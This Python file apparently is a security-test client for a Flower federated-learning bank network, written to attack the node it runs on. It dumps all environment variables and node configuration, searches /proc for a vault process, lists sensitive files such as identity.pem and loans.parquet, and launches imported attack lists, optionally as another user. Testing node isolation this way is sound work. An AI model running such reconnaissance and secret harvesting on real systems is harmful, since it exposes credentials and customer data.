"""Attacks the node that it runs on: what it was given, what it finds in its process, and the vault behind the socket."""

import json
import os
import subprocess
import sys
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

from attack import malicious_courier

app = ClientApp()


@app.train("attack")
def attack(message: Message, context: Context) -> Message:
    """In this process, and as the user that a courier has in production."""
    order = message.content["order"]
    vault = Path(str(context.node_config["vault"]))
    target = {"socket": str(vault), "pid": find_vault(vault.parent), "files": files_of(vault.parent), "code": sys.path}
    target["plan"] = {"run": "x", "job": {"kind": "horizontal_xgboost"}, "roster": ["ash", "birch", "cedar"]}
    target["plan"] |= {"attempt": 1, "schema_fingerprint": "0" * 64, "protection": "masking", "key_bits": 2048}
    told = {"environment": dict(os.environ), "config": {k: str(v) for k, v in context.node_config.items()}}
    work = {"target": target, "attacks": malicious_courier.SOCKET}
    if order["python"]:
        work["attacks"] = [*malicious_courier.MACHINE, *malicious_courier.SOCKET]
        report = as_other_user(work, str(order["python"]), int(order["user"]))
    else:
        report = malicious_courier.attack(target, work["attacks"])
    content = RecordDict({"report": ConfigRecord({"json": json.dumps({**told, **report})})})
    return Message(content, reply_to=message)


def as_other_user(work: dict, python: str, user: int) -> dict:
    """The machine's part in production, where a courier has its own user from the start."""
    program = Path(malicious_courier.__file__).read_text()
    done = subprocess.run(
        [python, "-I", "-c", program],
        input=json.dumps(work),
        capture_output=True,
        text=True,
        check=False,
        user=user,
        group=user,
        extra_groups=[],
        cwd="/",
    )
    return json.loads(done.stdout) if done.returncode == 0 else {"error": done.stderr[-2000:]}


def find_vault(home: Path) -> int:
    """Process id of the vault, which every user can see."""
    for process in Path("/proc").glob("[0-9]*"):
        try:
            command = (process / "cmdline").read_bytes()
        except OSError:
            continue
        if b"bank_nodes.vault" in command and str(home).encode() + b"/" in command:
            return int(process.name)
    return os.getpid()


def files_of(home: Path) -> list[str]:
    """What a bank's node usually has, by its usual names."""
    names = ("identity.pem", "loans.parquet", "vault.log", "node", "models/before", "checkpoints", "approvals")
    return [str(home / name) for name in names]
